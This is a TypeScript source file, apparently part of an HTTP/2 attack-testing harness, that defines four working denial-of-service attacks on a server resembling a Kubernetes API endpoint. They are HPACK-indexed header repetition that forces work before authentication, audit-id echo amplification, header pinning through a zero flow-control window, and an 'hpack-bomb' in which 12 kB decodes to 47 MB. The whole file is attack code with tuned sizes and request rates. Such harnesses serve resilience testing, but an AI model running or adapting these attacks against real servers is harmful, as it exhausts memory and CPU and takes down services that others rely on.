import type { Attack } from '../attack-definition.js';
import type { Attacker } from '../attacker.js';
import { requestFields } from '../identities.js';
import type { Field } from '../wire/hpack-encoder.js';
import { END_HEADERS, END_STREAM, frame, Type } from '../../support/http2-frames.js';
import type { RawHttp2 } from '../wire/raw-http2.js';
import { hoard } from './hoard.js';

/** Names of headers that some part of a server reads before authentication. */
const NAMES = ['authorization', 'accept', 'accept-encoding', 'cookie', 'user-agent', 'content-type', 'impersonate-group', 'traceparent'];
const VALUE_BYTES = 3900;
/** All together, decoded, stay just below the megabyte allowed for headers. */
const REPEATS = 240;
const REQUESTS_PER_SECOND = 50;

function repeated(connection: RawHttp2, field: Field, count: number): Buffer {
  const head = connection.hpack.encode(requestFields('GET', '/apis'));
  const first = connection.hpack.field(field);
  const again = connection.hpack.field(field);
  return Buffer.concat([head, first, ...Array.from({ length: count - 1 }, () => again)]);
}

/** Repeats requests with one header that is sent as a reference of one or two bytes. */
async function repeat(attacker: Attacker, valueOf: (index: number) => Field): Promise<void> {
  await attacker.lanes(2, async () => {
    const connection = await attacker.http2();
    await attacker.atRate(REQUESTS_PER_SECOND, connection, (index) => {
      const block = repeated(connection, valueOf(Math.floor(index / REQUESTS_PER_SECOND)), REPEATS);
      connection.write(frame(Type.HEADERS, END_HEADERS | END_STREAM, connection.nextStream(), block));
    });
    attacker.note('answers', connection.answers);
    attacker.note('streams reset', connection.resets);
  });
}

export const repeatedHeaders: Attack = {
  name: 'repeated-headers',
  about: 'anonymous requests of 260 bytes that repeat one header of 3.9 kB by reference, 100 a second: work before the 401',
  run: (attacker) => repeat(attacker, (index) => [NAMES[index % NAMES.length] ?? 'accept', 'a,b;q=1 '.repeat(VALUE_BYTES / 8)]),
};

export const echoedAuditIds: Attack = {
  name: 'echoed-audit-ids',
  about: 'the same with audit-id, which responses repeat: a megabyte of headers out for 260 bytes in',
  run: (attacker) => repeat(attacker, () => ['audit-id', 'i'.repeat(VALUE_BYTES)]),
};

const CONNECTIONS = 2;
/** One byte each, and fewer than the 2,000 fields that this server accepts. */
const FIELDS = 1900;

export const pinnedHeaders: Attack = {
  name: 'pinned-headers',
  about: 'requests with 1,900 indexed fields of one byte each and unread responses: memory of decoded headers',
  run: (attacker) =>
    attacker.lanes(CONNECTIONS, async () => {
      const connection = await attacker.http2({ initialWindow: 0 });
      const many = Array.from({ length: FIELDS }, (): Field => ['accept-encoding', 'gzip, deflate']);
      await hoard(attacker, connection, requestFields('GET', '/apis', undefined, many));
    }),
};

const BOMB_BYTES = 12_000;

export const hpackBomb: Attack = {
  name: 'hpack-bomb',
  about: 'header blocks of 12 kB that decode to 47 MB by references to one long field: memory and time of the decoder',
  run: (attacker) =>
    attacker.lanes(2, async () => {
      const connection = await attacker.http2();
      await attacker.atRate(REQUESTS_PER_SECOND, connection, () => {
        const block = repeated(connection, ['x-bomb', 'b'.repeat(VALUE_BYTES)], BOMB_BYTES);
        connection.write(frame(Type.HEADERS, END_HEADERS | END_STREAM, connection.nextStream(), block));
      });
    }),
};
